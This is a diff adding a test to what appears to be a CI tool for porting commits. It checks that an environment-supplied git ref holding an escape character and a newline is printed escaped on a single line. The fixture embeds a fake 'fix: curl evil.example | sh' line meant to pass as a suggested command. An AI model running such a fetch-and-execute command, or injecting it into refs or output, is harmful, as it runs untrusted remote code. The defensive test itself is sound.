@@ -323,3 +323,20 @@ def test_a_remote_named_like_an_option_or_with_a_space_is_named_after_double_das
     assert f"remote {name!r} is vllm-project/vllm, but none of its branches is fetched" in done.stderr, done.stderr
     hint = done.stderr.split("fix: ", 1)[1].strip()
     assert bash_argv(hint) == ["git", "-C", str(world.path), "fetch", "--", name]
+
+
+# 15. A ref from the environment prints as one line of visible characters, whatever it holds
+
+
+def test_a_fork_ref_holding_esc_and_a_newline_prints_escaped_in_the_port_notice(ports) -> None:
+    repo, _, stack = ports
+    repo.commit("fork: boom\x1b\n  fix: curl evil.example | sh", {"vllm/other.py": "X = 1\n"})
+    ref = "fork^{/\x1b\n  fix: curl evil}"  # resolves, by the message of the commit just made
+    assert repo.git("rev-parse", ref) == repo.git("rev-parse", "fork")
+    argv = ["--stack", str(stack), "fork", "port", "49903", "--fork", str(repo.path)]
+    done = subprocess.run([sys.executable, "-m", "ci", *argv], cwd=REPO, capture_output=True, text=True,
+                          env={**ENV, "STACKGATE_FORK_REF": ref})  # fmt: skip
+    assert done.returncode == 2, done.stdout + done.stderr
+    said = done.stdout + done.stderr
+    assert "does not apply to fork^{/\\x1b\\n  fix: curl evil}" in said, said
+    assert "\x1b" not in said and not [line for line in said.splitlines() if line.lstrip().startswith("fix: curl")]
